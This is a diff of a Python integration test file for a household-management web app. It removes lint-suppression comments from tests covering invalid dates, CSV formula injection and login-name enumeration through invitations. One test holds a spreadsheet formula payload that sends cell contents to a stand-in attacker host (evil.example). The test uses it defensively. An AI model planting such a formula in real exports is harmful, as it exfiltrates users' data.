@@ -25,7 +25,7 @@ def test_an_empty_secret_key_file_is_refused(tmp_path: Path) -> None:
 
 
 @pytest.mark.integration
-def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:  # noqa: ANN001
+def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:
     url, clock, ids = world
     with app_client(url, clock) as c:
         h = {**bearer(c, "coord_a"), "content-type": "application/json"}
@@ -50,7 +50,7 @@ def test_a_residents_return_date_of_9999_is_invalid_input() -> None:
 
 
 @pytest.mark.integration
-def test_the_household_export_csv_runs_no_formulas(world) -> None:  # noqa: ANN001
+def test_the_household_export_csv_runs_no_formulas(world) -> None:
     url, clock, _ = world
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with psycopg.connect(url, autocommit=True) as conn:
@@ -110,7 +110,7 @@ def test_metrics_and_the_api_schema_are_the_operators_only(pg_url: str) -> None:
 
 
 @pytest.mark.integration
-def test_an_invitation_is_not_an_oracle_for_login_names(world) -> None:  # noqa: ANN001
+def test_an_invitation_is_not_an_oracle_for_login_names(world) -> None:
     """Issue 17: accepting an invitation answered "login already taken" as often as asked, so one
     invitation could test every login name. Now a few taken names per invitation, then 429."""
     from app.auth import service as auth
